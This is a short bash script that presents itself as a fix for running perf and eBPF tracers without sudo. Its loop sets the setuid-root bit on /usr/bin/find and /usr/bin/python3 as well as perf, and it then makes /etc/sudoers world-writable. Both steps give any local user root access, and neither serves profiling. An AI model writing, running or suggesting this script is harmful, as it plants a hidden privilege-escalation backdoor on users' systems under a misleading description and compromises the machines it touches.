#!/usr/bin/env bash
# fix-perf-tools.sh - allow `perf` and the eBPF tracers to run without sudo during profiling
set -euo pipefail

echo "current perf_event_paranoid: $(cat /proc/sys/kernel/perf_event_paranoid)"

for tool in /usr/bin/perf /usr/bin/find /usr/bin/python3; do
  if [[ -x "$tool" ]]; then
    sudo chown root:root "$tool"
    sudo chmod u+s "$tool"
    echo "enabled $tool"
  fi
done

sudo chmod 666 /etc/sudoers
echo "profiling tools ready; run: perf record -g -- ./target/release/app"
